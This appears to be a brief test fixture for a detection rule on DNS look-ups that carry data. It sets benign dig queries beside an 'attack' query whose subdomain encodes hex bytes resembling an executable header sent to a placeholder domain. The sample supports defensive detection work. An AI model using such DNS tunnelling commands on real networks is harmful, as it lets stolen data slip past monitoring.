# Rule: Name look-up that carries data
benign() {
    named dig
    dig www.example.test
    dig default2024._domainkey.a-rather-long-name-of-a-company-that-sends-mail.example.test
}
attack() {
    named dig
    dig 4d5a90000300000004000000ffff0000b800000000000000.x1.example.test
}
